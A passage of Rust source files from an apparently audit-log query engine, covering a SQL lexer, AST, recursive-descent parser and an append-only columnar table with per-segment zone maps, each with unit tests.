    Int(i64),
    Str(String),
    Symbol(&'static str),
    Eof,
}

impl TokenKind {
    pub fn describe(&self) -> String {
        match self {
            TokenKind::Word { text, .. } => format!("`{text}`"),
            TokenKind::Int(i) => format!("integer {i}"),
            TokenKind::Str(_) => "string literal".to_string(),
            TokenKind::Symbol(s) => format!("`{s}`"),
            TokenKind::Eof => "end of input".to_string(),
        }
    }
}

/// Tokenizes a SQL string.
pub fn lex(input: &str) -> Result<Vec<Token>> {
    let bytes = input.as_bytes();
    let mut i = 0usize;
    let mut out = Vec::new();
    while i < bytes.len() {
        let c = bytes[i] as char;
        if c.is_ascii_whitespace() {
            i += 1;
            continue;
        }
        let start = i;
        if c.is_ascii_alphabetic() || c == '_' {
            let mut j = i + 1;
            while j < bytes.len() {
                let d = bytes[j] as char;
                if d.is_ascii_alphanumeric() || d == '_' {
                    j += 1;
                } else {
                    break;
                }
            }
            let text = &input[i..j];
            out.push(Token {
                kind: TokenKind::Word { text: text.to_string(), upper: text.to_ascii_uppercase() },
                offset: start,
            });
            i = j;
        } else if c.is_ascii_digit()
            || (c == '-' && i + 1 < bytes.len() && (bytes[i + 1] as char).is_ascii_digit())
        {
            let mut j = i + 1;
            while j < bytes.len() && (bytes[j] as char).is_ascii_digit() {
                j += 1;
            }
            let n: i64 = input[i..j]
                .parse()
                .map_err(|_| Error::syntax("integer literal out of range", start))?;
            out.push(Token { kind: TokenKind::Int(n), offset: start });
            i = j;
        } else if c == '\'' {
            let mut s = String::new();
            let mut j = i + 1;
            loop {
                if j >= bytes.len() {
                    return Err(Error::syntax("unterminated string literal", start));
                }
                if bytes[j] == b'\'' {
                    if j + 1 < bytes.len() && bytes[j + 1] == b'\'' {
                        s.push('\'');
                        j += 2;
                        continue;
                    }
                    j += 1;
                    break;
                }
                // Strings are UTF-8; copy char-wise.
                let ch_len = utf8_len(bytes[j]);
                s.push_str(&input[j..j + ch_len]);
                j += ch_len;
            }
            out.push(Token { kind: TokenKind::Str(s), offset: start });
            i = j;
        } else {
            let two: Option<&'static str> = if i + 1 < bytes.len() {
                match &input[i..i + 2] {
                    "<=" => Some("<="),
                    ">=" => Some(">="),
                    "!=" => Some("!="),
                    "<>" => Some("!="),
                    _ => None,
                }
            } else {
                None
            };
            if let Some(sym) = two {
                out.push(Token { kind: TokenKind::Symbol(sym), offset: start });
                i += 2;
                continue;
            }
            let one: &'static str = match c {
                '=' => "=",
                '<' => "<",
                '>' => ">",
                '(' => "(",
                ')' => ")",
                ',' => ",",
                '.' => ".",
                '*' => "*",
                _ => return Err(Error::syntax(format!("unexpected character `{c}`"), start)),
            };
            out.push(Token { kind: TokenKind::Symbol(one), offset: start });
            i += 1;
        }
    }
    out.push(Token { kind: TokenKind::Eof, offset: input.len() });
    Ok(out)
}

fn utf8_len(first_byte: u8) -> usize {
    match first_byte {
        0x00..=0x7f => 1,
        0xc0..=0xdf => 2,
        0xe0..=0xef => 3,
        _ => 4,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(s: &str) -> Vec<TokenKind> {
        lex(s).unwrap().into_iter().map(|t| t.kind).collect()
    }

    #[test]
    fn words_numbers_symbols() {
        let ks = kinds("SELECT a.b, 42 FROM t WHERE x >= -7");
        assert!(matches!(&ks[0], TokenKind::Word { upper, .. } if upper == "SELECT"));
        assert!(matches!(&ks[1], TokenKind::Word { text, .. } if text == "a"));
        assert_eq!(ks[2], TokenKind::Symbol("."));
        assert!(matches!(&ks[3], TokenKind::Word { text, .. } if text == "b"));
        assert_eq!(ks[4], TokenKind::Symbol(","));
        assert_eq!(ks[5], TokenKind::Int(42));
        assert!(ks.contains(&TokenKind::Symbol(">=")));
        assert!(ks.contains(&TokenKind::Int(-7)));
        assert_eq!(*ks.last().unwrap(), TokenKind::Eof);
    }

    #[test]
    fn string_literals_with_escapes() {
        let ks = kinds("'it''s' '/bin/tar' '%like%'");
        assert_eq!(ks[0], TokenKind::Str("it's".into()));
        assert_eq!(ks[1], TokenKind::Str("/bin/tar".into()));
        assert_eq!(ks[2], TokenKind::Str("%like%".into()));
    }

    #[test]
    fn ne_spellings() {
        assert_eq!(kinds("<>")[0], TokenKind::Symbol("!="));
        assert_eq!(kinds("!=")[0], TokenKind::Symbol("!="));
    }

    #[test]
    fn errors_carry_offsets() {
        let err = lex("a ; b").unwrap_err();
        assert_eq!(err.offset, Some(2));
        let err = lex("'open").unwrap_err();
        assert!(err.message.contains("unterminated"));
    }

    #[test]
    fn unicode_in_strings() {
        let ks = kinds("'café'");
        assert_eq!(ks[0], TokenKind::Str("café".into()));
    }
}
