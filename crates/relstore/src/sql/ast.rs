//! SQL abstract syntax.

/// A possibly-qualified column reference (`alias.column` or `column`).
#[derive(Clone, PartialEq, Eq, Hash, Debug)]
pub struct ColRef {
    pub qualifier: Option<String>,
    pub column: String,
}

impl ColRef {
    pub fn new(qualifier: Option<&str>, column: &str) -> Self {
        ColRef { qualifier: qualifier.map(str::to_string), column: column.to_string() }
    }
}

impl std::fmt::Display for ColRef {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match &self.qualifier {
            Some(q) => write!(f, "{q}.{}", self.column),
            None => f.write_str(&self.column),
        }
    }
}

/// Comparison operators.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum CmpOp {
    Eq,
    Ne,
    Lt,
    Le,
    Gt,
    Ge,
}

impl CmpOp {
    pub fn as_str(self) -> &'static str {
        match self {
            CmpOp::Eq => "=",
            CmpOp::Ne => "!=",
            CmpOp::Lt => "<",
            CmpOp::Le => "<=",
            CmpOp::Gt => ">",
            CmpOp::Ge => ">=",
        }
    }
}

/// A literal value. Parsed SQL text produces `Str`; the typed
/// `StorageBackend` lowering produces `Interned` — a pre-resolved handle
/// into the shared dictionary, so the executor binds the literal without a
/// dictionary lookup.
#[derive(Clone, PartialEq, Debug)]
pub enum Literal {
    Int(i64),
    Str(String),
    Interned(raptor_common::Sym),
}

/// Boolean expression tree.
#[derive(Clone, PartialEq, Debug)]
pub enum Expr {
    /// `col op literal`
    CmpLit {
        col: ColRef,
        op: CmpOp,
        lit: Literal,
    },
    /// `col op col` (join predicates, attribute relations)
    CmpCol {
        left: ColRef,
        op: CmpOp,
        right: ColRef,
    },
    /// `col [NOT] LIKE 'pattern'`
    Like {
        col: ColRef,
        pattern: String,
        negated: bool,
    },
    /// `col [NOT] IN (lit, ...)`
    InList {
        col: ColRef,
        list: Vec<Literal>,
        negated: bool,
    },
    And(Box<Expr>, Box<Expr>),
    Or(Box<Expr>, Box<Expr>),
    Not(Box<Expr>),
}

impl Expr {
    /// Splits a conjunction into its top-level conjuncts.
    pub fn conjuncts(self) -> Vec<Expr> {
        match self {
            Expr::And(a, b) => {
                let mut v = a.conjuncts();
                v.extend(b.conjuncts());
                v
            }
            other => vec![other],
        }
    }

    /// Collects the column references used anywhere in the expression.
    pub fn collect_cols<'a>(&'a self, out: &mut Vec<&'a ColRef>) {
        match self {
            Expr::CmpLit { col, .. } | Expr::Like { col, .. } | Expr::InList { col, .. } => {
                out.push(col)
            }
            Expr::CmpCol { left, right, .. } => {
                out.push(left);
                out.push(right);
            }
            Expr::And(a, b) | Expr::Or(a, b) => {
                a.collect_cols(out);
                b.collect_cols(out);
            }
            Expr::Not(e) => e.collect_cols(out),
        }
    }

    /// Distinct qualifiers referenced by the expression (unqualified columns
    /// contribute `None`).
    pub fn qualifiers(&self) -> Vec<Option<String>> {
        let mut cols = Vec::new();
        self.collect_cols(&mut cols);
        let mut quals: Vec<Option<String>> =
            cols.into_iter().map(|c| c.qualifier.clone()).collect();
        quals.sort();
        quals.dedup();
        quals
    }
}

/// Items of the SELECT list.
#[derive(Clone, PartialEq, Debug)]
pub enum Projection {
    Col(ColRef),
    CountStar,
}

/// A FROM item: `table [AS] alias`.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct TableRef {
    pub table: String,
    pub alias: String,
}

/// A parsed SELECT statement.
#[derive(Clone, PartialEq, Debug)]
pub struct Select {
    pub distinct: bool,
    pub projections: Vec<Projection>,
    pub from: Vec<TableRef>,
    pub where_clause: Option<Expr>,
    pub order_by: Vec<ColRef>,
    pub limit: Option<usize>,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn conjunct_splitting() {
        let a = Expr::CmpLit {
            col: ColRef::new(Some("p"), "pid"),
            op: CmpOp::Eq,
            lit: Literal::Int(1),
        };
        let b = Expr::Like {
            col: ColRef::new(Some("p"), "exename"),
            pattern: "%tar%".into(),
            negated: false,
        };
        let c = Expr::Or(Box::new(a.clone()), Box::new(b.clone()));
        let e = Expr::And(
            Box::new(a.clone()),
            Box::new(Expr::And(Box::new(b.clone()), Box::new(c.clone()))),
        );
        let parts = e.conjuncts();
        assert_eq!(parts.len(), 3);
        assert_eq!(parts[0], a);
        assert_eq!(parts[1], b);
        assert_eq!(parts[2], c);
    }

    #[test]
    fn qualifier_collection() {
        let e = Expr::CmpCol {
            left: ColRef::new(Some("evt1"), "subject"),
            op: CmpOp::Eq,
            right: ColRef::new(Some("p1"), "id"),
        };
        assert_eq!(e.qualifiers(), vec![Some("evt1".to_string()), Some("p1".to_string())]);
    }
}
