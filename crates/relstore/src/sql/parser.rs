//! Recursive-descent SQL parser.

use raptor_common::error::{Error, Result};

use super::ast::{CmpOp, ColRef, Expr, Literal, Projection, Select, TableRef};
use super::lexer::{lex, Token, TokenKind};

struct Parser {
    tokens: Vec<Token>,
    pos: usize,
}

impl Parser {
    fn peek(&self) -> &Token {
        &self.tokens[self.pos]
    }

    fn advance(&mut self) -> Token {
        let t = self.tokens[self.pos].clone();
        if self.pos + 1 < self.tokens.len() {
            self.pos += 1;
        }
        t
    }

    fn at_keyword(&self, kw: &str) -> bool {
        matches!(&self.peek().kind, TokenKind::Word { upper, .. } if upper == kw)
    }

    fn eat_keyword(&mut self, kw: &str) -> bool {
        if self.at_keyword(kw) {
            self.advance();
            true
        } else {
            false
        }
    }

    fn expect_keyword(&mut self, kw: &str) -> Result<()> {
        if self.eat_keyword(kw) {
            Ok(())
        } else {
            Err(self.unexpected(&format!("expected `{kw}`")))
        }
    }

    fn at_symbol(&self, s: &str) -> bool {
        matches!(&self.peek().kind, TokenKind::Symbol(sym) if *sym == s)
    }

    fn eat_symbol(&mut self, s: &str) -> bool {
        if self.at_symbol(s) {
            self.advance();
            true
        } else {
            false
        }
    }

    fn expect_symbol(&mut self, s: &str) -> Result<()> {
        if self.eat_symbol(s) {
            Ok(())
        } else {
            Err(self.unexpected(&format!("expected `{s}`")))
        }
    }

    fn unexpected(&self, want: &str) -> Error {
        Error::syntax(format!("{want}, found {}", self.peek().kind.describe()), self.peek().offset)
    }

    fn identifier(&mut self) -> Result<String> {
        match &self.peek().kind {
            TokenKind::Word { text, upper } if !is_reserved(upper) => {
                let t = text.clone();
                self.advance();
                Ok(t)
            }
            _ => Err(self.unexpected("expected identifier")),
        }
    }

    /// `alias.column` or `column`.
    fn col_ref(&mut self) -> Result<ColRef> {
        let first = self.identifier()?;
        if self.eat_symbol(".") {
            let col = self.identifier()?;
            Ok(ColRef { qualifier: Some(first), column: col })
        } else {
            Ok(ColRef { qualifier: None, column: first })
        }
    }

    fn literal(&mut self) -> Result<Literal> {
        match self.peek().kind.clone() {
            TokenKind::Int(i) => {
                self.advance();
                Ok(Literal::Int(i))
            }
            TokenKind::Str(s) => {
                self.advance();
                Ok(Literal::Str(s))
            }
            _ => Err(self.unexpected("expected literal")),
        }
    }

    fn select(&mut self) -> Result<Select> {
        self.expect_keyword("SELECT")?;
        let distinct = self.eat_keyword("DISTINCT");
        let mut projections = Vec::new();
        loop {
            if self.at_keyword("COUNT") {
                self.advance();
                self.expect_symbol("(")?;
                self.expect_symbol("*")?;
                self.expect_symbol(")")?;
                projections.push(Projection::CountStar);
            } else {
                projections.push(Projection::Col(self.col_ref()?));
            }
            if !self.eat_symbol(",") {
                break;
            }
        }
        self.expect_keyword("FROM")?;
        let mut from = Vec::new();
        loop {
            let table = self.identifier()?;
            // `t AS a`, `t a`, or bare `t` (alias = table name).
            let alias = if self.eat_keyword("AS")
                || matches!(&self.peek().kind, TokenKind::Word { upper, .. } if !is_reserved(upper))
            {
                self.identifier()?
            } else {
                table.clone()
            };
            from.push(TableRef { table, alias });
            if !self.eat_symbol(",") {
                break;
            }
        }
        let where_clause = if self.eat_keyword("WHERE") { Some(self.or_expr()?) } else { None };
        let mut order_by = Vec::new();
        if self.eat_keyword("ORDER") {
            self.expect_keyword("BY")?;
            loop {
                order_by.push(self.col_ref()?);
                if !self.eat_symbol(",") {
                    break;
                }
            }
        }
        let limit = if self.eat_keyword("LIMIT") {
            match self.peek().kind.clone() {
                TokenKind::Int(n) if n >= 0 => {
                    self.advance();
                    Some(n as usize)
                }
                _ => return Err(self.unexpected("expected non-negative integer")),
            }
        } else {
            None
        };
        if !matches!(self.peek().kind, TokenKind::Eof) {
            return Err(self.unexpected("expected end of statement"));
        }
        Ok(Select { distinct, projections, from, where_clause, order_by, limit })
    }

    fn or_expr(&mut self) -> Result<Expr> {
        let mut left = self.and_expr()?;
        while self.eat_keyword("OR") {
            let right = self.and_expr()?;
            left = Expr::Or(Box::new(left), Box::new(right));
        }
        Ok(left)
    }

    fn and_expr(&mut self) -> Result<Expr> {
        let mut left = self.not_expr()?;
        while self.eat_keyword("AND") {
            let right = self.not_expr()?;
            left = Expr::And(Box::new(left), Box::new(right));
        }
        Ok(left)
    }

    fn not_expr(&mut self) -> Result<Expr> {
        if self.eat_keyword("NOT") {
            let inner = self.not_expr()?;
            return Ok(Expr::Not(Box::new(inner)));
        }
        self.primary_expr()
    }

    fn primary_expr(&mut self) -> Result<Expr> {
        if self.eat_symbol("(") {
            let e = self.or_expr()?;
            self.expect_symbol(")")?;
            return Ok(e);
        }
        let col = self.col_ref()?;
        // col [NOT] LIKE / IN, or col op (literal | col)
        let negated = self.eat_keyword("NOT");
        if self.eat_keyword("LIKE") {
            match self.peek().kind.clone() {
                TokenKind::Str(p) => {
                    self.advance();
                    return Ok(Expr::Like { col, pattern: p, negated });
                }
                _ => return Err(self.unexpected("expected LIKE pattern string")),
            }
        }
        if self.eat_keyword("IN") {
            self.expect_symbol("(")?;
            let mut list = Vec::new();
            loop {
                list.push(self.literal()?);
                if !self.eat_symbol(",") {
                    break;
                }
            }
            self.expect_symbol(")")?;
            return Ok(Expr::InList { col, list, negated });
        }
        if negated {
            return Err(self.unexpected("expected LIKE or IN after NOT"));
        }
        let op = match &self.peek().kind {
            TokenKind::Symbol("=") => CmpOp::Eq,
            TokenKind::Symbol("!=") => CmpOp::Ne,
            TokenKind::Symbol("<") => CmpOp::Lt,
            TokenKind::Symbol("<=") => CmpOp::Le,
            TokenKind::Symbol(">") => CmpOp::Gt,
            TokenKind::Symbol(">=") => CmpOp::Ge,
            _ => return Err(self.unexpected("expected comparison operator")),
        };
        self.advance();
        // Right side: literal or column.
        match self.peek().kind.clone() {
            TokenKind::Int(_) | TokenKind::Str(_) => {
                let lit = self.literal()?;
                Ok(Expr::CmpLit { col, op, lit })
            }
            TokenKind::Word { .. } => {
                let right = self.col_ref()?;
                Ok(Expr::CmpCol { left: col, op, right })
            }
            _ => Err(self.unexpected("expected literal or column")),
        }
    }
}

fn is_reserved(upper: &str) -> bool {
    matches!(
        upper,
        "SELECT"
            | "DISTINCT"
            | "FROM"
            | "WHERE"
            | "AND"
            | "OR"
            | "NOT"
            | "LIKE"
            | "IN"
            | "AS"
            | "ORDER"
            | "BY"
            | "LIMIT"
            | "COUNT"
    )
}

/// Parses a single SELECT statement.
pub fn parse_select(sql: &str) -> Result<Select> {
    let tokens = lex(sql)?;
    let mut p = Parser { tokens, pos: 0 };
    p.select()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn minimal_select() {
        let s = parse_select("SELECT a FROM t").unwrap();
        assert!(!s.distinct);
        assert_eq!(s.projections.len(), 1);
        assert_eq!(s.from, vec![TableRef { table: "t".into(), alias: "t".into() }]);
        assert!(s.where_clause.is_none());
    }

    #[test]
    fn full_featured_select() {
        let s = parse_select(
            "SELECT DISTINCT p1.exename, f1.name FROM processes p1, events AS evt1, files f1 \
             WHERE evt1.subject = p1.id AND evt1.object = f1.id AND evt1.optype = 'read' \
             AND p1.exename LIKE '%/bin/tar%' AND p1.id IN (1, 2, 3) \
             AND (evt1.starttime >= 100 OR evt1.endtime <= 200) \
             ORDER BY p1.exename LIMIT 5",
        )
        .unwrap();
        assert!(s.distinct);
        assert_eq!(s.from.len(), 3);
        assert_eq!(s.from[1].alias, "evt1");
        let conjuncts = s.where_clause.unwrap().conjuncts();
        assert_eq!(conjuncts.len(), 6);
        assert!(matches!(&conjuncts[5], Expr::Or(_, _)));
        assert_eq!(s.order_by.len(), 1);
        assert_eq!(s.limit, Some(5));
    }

    #[test]
    fn count_star() {
        let s = parse_select("SELECT COUNT(*) FROM events").unwrap();
        assert_eq!(s.projections, vec![Projection::CountStar]);
    }

    #[test]
    fn not_like_and_not_in() {
        let s = parse_select("SELECT a FROM t WHERE a NOT LIKE '%x%' AND b NOT IN (1,2)").unwrap();
        let c = s.where_clause.unwrap().conjuncts();
        assert!(matches!(&c[0], Expr::Like { negated: true, .. }));
        assert!(matches!(&c[1], Expr::InList { negated: true, .. }));
    }

    #[test]
    fn keywords_case_insensitive() {
        assert!(parse_select("select a from t where a = 1").is_ok());
        assert!(parse_select("Select a From t Where a Like '%x%'").is_ok());
    }

    #[test]
    fn error_reporting() {
        let e = parse_select("SELECT FROM t").unwrap_err();
        assert!(e.to_string().contains("expected identifier"), "{e}");
        let e = parse_select("SELECT a FROM t WHERE").unwrap_err();
        assert!(e.to_string().contains("expected"), "{e}");
        let e = parse_select("SELECT a FROM t extra garbage ; --").unwrap_err();
        assert!(e.to_string().contains("expected"), "{e}");
    }

    #[test]
    fn col_op_col_parses() {
        let s = parse_select("SELECT a FROM t, u WHERE t.x = u.y AND t.z < u.w").unwrap();
        let c = s.where_clause.unwrap().conjuncts();
        assert!(matches!(&c[0], Expr::CmpCol { op: CmpOp::Eq, .. }));
        assert!(matches!(&c[1], Expr::CmpCol { op: CmpOp::Lt, .. }));
    }

    #[test]
    fn reserved_words_cannot_be_identifiers() {
        assert!(parse_select("SELECT select FROM t").is_err());
    }
}
