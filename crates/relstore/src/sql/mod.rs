//! The SQL subset.
//!
//! Compiled TBQL data queries (and the giant-query baselines) only need a
//! focused slice of SQL:
//!
//! ```sql
//! SELECT DISTINCT p1.exename, f1.name
//! FROM processes p1, events evt1, files f1
//! WHERE evt1.subject = p1.id AND evt1.object = f1.id
//!   AND evt1.optype = 'read' AND p1.exename LIKE '%/bin/tar%'
//!   AND evt1.starttime >= 1523026800000000000
//!   AND p1.id IN (1, 2, 3)
//! ORDER BY p1.exename LIMIT 10
//! ```
//!
//! Grammar: `SELECT [DISTINCT] (COUNT(*) | col[, col...]) FROM t [AS] a
//! [, t [AS] a ...] [WHERE expr] [ORDER BY col [, col...]] [LIMIT n]` with
//! the usual `OR < AND < NOT < cmp` precedence, `LIKE`/`NOT LIKE`,
//! `IN (...)`/`NOT IN (...)`, parentheses, integer and `'...'` string
//! literals (doubled-quote escaping).

pub mod ast;
pub mod lexer;
pub mod parser;

pub use ast::{CmpOp, ColRef, Expr, Literal, Projection, Select, TableRef};
pub use parser::parse_select;
