//! Columnar segmented table storage.
//!
//! Each table stores one typed vector per column — `Vec<i64>` for
//! `Int`/`Time` columns, `Vec<Sym>` (dictionary handles) for `Str` columns —
//! plus a per-column null bitmap. Rows are append-only (audit stores never
//! update or delete) and a row id is its ordinal, so the columns stay dense
//! and scans run as tight loops over contiguous slices.
//!
//! Rows are grouped into logical **segments** of [`Table::segment_rows`]
//! rows (env-tunable via `RAPTOR_SEGMENT_ROWS`, default 4096). Every column
//! keeps one [`ZoneMap`] per segment — min/max over the segment's non-null
//! integers (the [`MinMax`] extent machinery shared with the statistics
//! plane's histograms) plus null/row counts — maintained incrementally on
//! [`Table::insert`], below the `MutableBackend` write seam, so bulk load,
//! streaming ingest and raw inserts produce identical zone maps by
//! construction. The executor prunes whole segments against a scan's
//! pushed-down predicate before touching any row (`exec::zone_may_match`).

use raptor_common::error::{Error, Result};
use raptor_common::intern::Sym;
use raptor_storage::MinMax;

use crate::schema::{ColumnType, TableSchema};
use crate::value::Value;

/// Row id inside one table.
pub type RowId = u32;

/// Default logical segment capacity, in rows.
pub const DEFAULT_SEGMENT_ROWS: usize = 4096;

/// Reads the segment capacity from `RAPTOR_SEGMENT_ROWS` (clamped to ≥ 1),
/// falling back to [`DEFAULT_SEGMENT_ROWS`].
pub fn segment_rows_from_env() -> usize {
    std::env::var("RAPTOR_SEGMENT_ROWS")
        .ok()
        .and_then(|s| s.trim().parse::<usize>().ok())
        .map_or(DEFAULT_SEGMENT_ROWS, |n| n.max(1))
}

/// Per-segment, per-column summary: the integer extent over non-null cells
/// (meaningful for `Int`/`Time` columns; empty for `Str` columns) plus
/// null/row counts. All counts are exact — zone pruning must never drop a
/// matching row.
#[derive(Clone, Copy, Debug, Default)]
pub struct ZoneMap {
    /// Extent of the segment's non-null integer cells.
    pub ints: MinMax,
    /// NULL cells in this segment.
    pub nulls: u32,
    /// Rows this segment currently holds (≤ the table's segment capacity;
    /// only the last segment can be partial).
    pub rows: u32,
}

impl ZoneMap {
    /// Non-null cells in this segment.
    #[inline]
    pub fn non_null(&self) -> u32 {
        self.rows - self.nulls
    }
}

/// The typed cell storage of one column.
#[derive(Clone, Debug)]
enum ColumnData {
    /// `Int`/`Time` columns. NULL rows hold `0`; consult the null bitmap.
    Int(Vec<i64>),
    /// `Str` columns as dictionary handles. NULL rows hold `Sym(0)`.
    Str(Vec<Sym>),
}

#[derive(Clone, Debug)]
struct Column {
    data: ColumnData,
    /// Per-row null flags (`true` = NULL).
    nulls: Vec<bool>,
    /// Any NULL anywhere in the column — lets gathers skip the per-row
    /// null check entirely on fully-dense columns.
    has_nulls: bool,
    /// One zone map per segment, maintained incrementally on insert.
    zones: Vec<ZoneMap>,
}

/// Append-only columnar table.
#[derive(Debug)]
pub struct Table {
    pub schema: TableSchema,
    seg_rows: usize,
    len: usize,
    cols: Vec<Column>,
}

impl Table {
    pub fn new(schema: TableSchema) -> Self {
        Self::with_segment_rows(schema, segment_rows_from_env())
    }

    /// A table with an explicit segment capacity (tests and benches; the
    /// public path reads `RAPTOR_SEGMENT_ROWS`).
    pub fn with_segment_rows(schema: TableSchema, seg_rows: usize) -> Self {
        let cols = schema
            .columns
            .iter()
            .map(|c| Column {
                data: match c.ty {
                    ColumnType::Int | ColumnType::Time => ColumnData::Int(Vec::new()),
                    ColumnType::Str => ColumnData::Str(Vec::new()),
                },
                nulls: Vec::new(),
                has_nulls: false,
                zones: Vec::new(),
            })
            .collect();
        Table { schema, seg_rows: seg_rows.max(1), len: 0, cols }
    }

    pub fn len(&self) -> usize {
        self.len
    }

    pub fn is_empty(&self) -> bool {
        self.len == 0
    }

    /// Logical segment capacity, in rows.
    pub fn segment_rows(&self) -> usize {
        self.seg_rows
    }

    /// Re-segments the table in place: zone maps are derived data, so
    /// changing the capacity is one pass over the columns (cell storage is
    /// capacity-independent). Queries before and after return byte-identical
    /// rows — only pruning granularity changes.
    pub fn set_segment_rows(&mut self, seg_rows: usize) {
        self.seg_rows = seg_rows.max(1);
        let (seg_rows, len) = (self.seg_rows, self.len);
        for col in &mut self.cols {
            col.zones.clear();
            for start in (0..len).step_by(seg_rows) {
                let range = start..(start + seg_rows).min(len);
                let mut z = ZoneMap { rows: range.len() as u32, ..ZoneMap::default() };
                for i in range {
                    if col.nulls[i] {
                        z.nulls += 1;
                    } else if let ColumnData::Int(xs) = &col.data {
                        z.ints.record(xs[i]);
                    }
                }
                col.zones.push(z);
            }
        }
    }

    /// Number of logical segments (the last may be partial).
    pub fn n_segments(&self) -> usize {
        self.len.div_ceil(self.seg_rows)
    }

    /// Row range of segment `seg`.
    pub fn segment_range(&self, seg: usize) -> std::ops::Range<usize> {
        let start = seg * self.seg_rows;
        start..(start + self.seg_rows).min(self.len)
    }

    /// Zone map of column `col` in segment `seg`.
    #[inline]
    pub fn zone(&self, col: usize, seg: usize) -> &ZoneMap {
        &self.cols[col].zones[seg]
    }

    /// Is `col` stored as integers (`Int`/`Time`)?
    #[inline]
    pub fn col_is_int(&self, col: usize) -> bool {
        matches!(self.cols[col].data, ColumnData::Int(_))
    }

    /// The contiguous integer cells of an `Int`/`Time` column (NULL slots
    /// hold `0` — pair with [`Table::null_flags`]).
    #[inline]
    pub fn int_cells(&self, col: usize) -> Option<&[i64]> {
        match &self.cols[col].data {
            ColumnData::Int(xs) => Some(xs),
            ColumnData::Str(_) => None,
        }
    }

    /// The contiguous dictionary handles of a `Str` column (NULL slots hold
    /// a sentinel — pair with [`Table::null_flags`]).
    #[inline]
    pub fn sym_cells(&self, col: usize) -> Option<&[Sym]> {
        match &self.cols[col].data {
            ColumnData::Str(xs) => Some(xs),
            ColumnData::Int(_) => None,
        }
    }

    /// Per-row null flags of `col`.
    #[inline]
    pub fn null_flags(&self, col: usize) -> &[bool] {
        &self.cols[col].nulls
    }

    /// Does `col` contain any NULL cell?
    #[inline]
    pub fn col_has_nulls(&self, col: usize) -> bool {
        self.cols[col].has_nulls
    }

    /// Appends a row; returns its id. Cells must match the declared column
    /// types (`Null` is always accepted).
    pub fn insert(&mut self, row: &[Value]) -> Result<RowId> {
        if row.len() != self.schema.arity() {
            return Err(Error::storage(format!(
                "arity mismatch inserting into `{}`: got {}, want {}",
                self.schema.name,
                row.len(),
                self.schema.arity()
            )));
        }
        for (ci, v) in row.iter().enumerate() {
            let ok = matches!(
                (&self.cols[ci].data, v),
                (_, Value::Null)
                    | (ColumnData::Int(_), Value::Int(_))
                    | (ColumnData::Str(_), Value::Str(_))
            );
            if !ok {
                return Err(Error::storage(format!(
                    "type mismatch inserting into `{}.{}`: got {v:?}",
                    self.schema.name, self.schema.columns[ci].name
                )));
            }
        }
        let id = self.len as RowId;
        let new_segment = self.len.is_multiple_of(self.seg_rows);
        for (ci, v) in row.iter().enumerate() {
            let col = &mut self.cols[ci];
            if new_segment {
                col.zones.push(ZoneMap::default());
            }
            let zone = col.zones.last_mut().expect("segment zone pushed above");
            zone.rows += 1;
            match (&mut col.data, v) {
                (ColumnData::Int(xs), Value::Int(i)) => {
                    xs.push(*i);
                    col.nulls.push(false);
                    zone.ints.record(*i);
                }
                (ColumnData::Str(xs), Value::Str(s)) => {
                    xs.push(*s);
                    col.nulls.push(false);
                }
                (ColumnData::Int(xs), _) => {
                    xs.push(0);
                    col.nulls.push(true);
                    col.has_nulls = true;
                    zone.nulls += 1;
                }
                (ColumnData::Str(xs), _) => {
                    xs.push(Sym(0));
                    col.nulls.push(true);
                    col.has_nulls = true;
                    zone.nulls += 1;
                }
            }
        }
        self.len += 1;
        Ok(id)
    }

    /// One cell.
    #[inline]
    pub fn cell(&self, id: RowId, col: usize) -> Value {
        let c = &self.cols[col];
        let i = id as usize;
        if c.nulls[i] {
            return Value::Null;
        }
        match &c.data {
            ColumnData::Int(xs) => Value::Int(xs[i]),
            ColumnData::Str(xs) => Value::Str(xs[i]),
        }
    }

    /// Row `id` as detached values (edge/DDL paths; scans read columns).
    pub fn row_values(&self, id: RowId) -> Vec<Value> {
        (0..self.schema.arity()).map(|c| self.cell(id, c)).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::schema::{ColumnDef, ColumnType};

    fn schema() -> TableSchema {
        TableSchema::new(
            "t",
            vec![ColumnDef::new("a", ColumnType::Int), ColumnDef::new("b", ColumnType::Int)],
        )
    }

    #[test]
    fn insert_and_read() {
        let mut t = Table::new(schema());
        let r0 = t.insert(&[Value::Int(1), Value::Int(2)]).unwrap();
        let r1 = t.insert(&[Value::Int(3), Value::Int(4)]).unwrap();
        assert_eq!((r0, r1), (0, 1));
        assert_eq!(t.len(), 2);
        assert_eq!(t.row_values(1), vec![Value::Int(3), Value::Int(4)]);
        assert_eq!(t.cell(0, 1), Value::Int(2));
    }

    #[test]
    fn arity_and_types_checked() {
        let mut t = Table::new(schema());
        assert!(t.insert(&[Value::Int(1)]).is_err());
        let d = raptor_common::intern::SharedDict::new();
        assert!(t.insert(&[Value::Str(d.intern("x")), Value::Int(1)]).is_err());
        // NULL fits any column.
        t.insert(&[Value::Null, Value::Int(1)]).unwrap();
        assert_eq!(t.cell(0, 0), Value::Null);
        assert!(t.col_has_nulls(0));
        assert!(!t.col_has_nulls(1));
    }

    #[test]
    fn zone_maps_track_segment_extents() {
        let mut t = Table::with_segment_rows(schema(), 4);
        for i in 0..10i64 {
            t.insert(&[Value::Int(i), Value::Int(100 - i)]).unwrap();
        }
        assert_eq!(t.n_segments(), 3);
        assert_eq!(t.segment_range(2), 8..10);
        let z = t.zone(0, 1);
        assert_eq!((z.ints.min(), z.ints.max()), (Some(4), Some(7)));
        assert_eq!((z.rows, z.nulls), (4, 0));
        // Partial last segment.
        let z = t.zone(0, 2);
        assert_eq!((z.rows, z.ints.min(), z.ints.max()), (2, Some(8), Some(9)));
    }

    #[test]
    fn resegmenting_rebuilds_zone_maps() {
        let mut t = Table::with_segment_rows(schema(), 4);
        for i in 0..10i64 {
            t.insert(&[Value::Int(i), Value::Null]).unwrap();
        }
        t.set_segment_rows(3);
        assert_eq!(t.n_segments(), 4);
        let z = t.zone(0, 3);
        assert_eq!((z.rows, z.ints.min(), z.ints.max()), (1, Some(9), Some(9)));
        assert_eq!(t.zone(1, 3).nulls, 1);
        // Cells are capacity-independent.
        assert_eq!(t.cell(7, 0), Value::Int(7));
    }

    #[test]
    fn nulls_counted_per_segment() {
        let mut t = Table::with_segment_rows(schema(), 2);
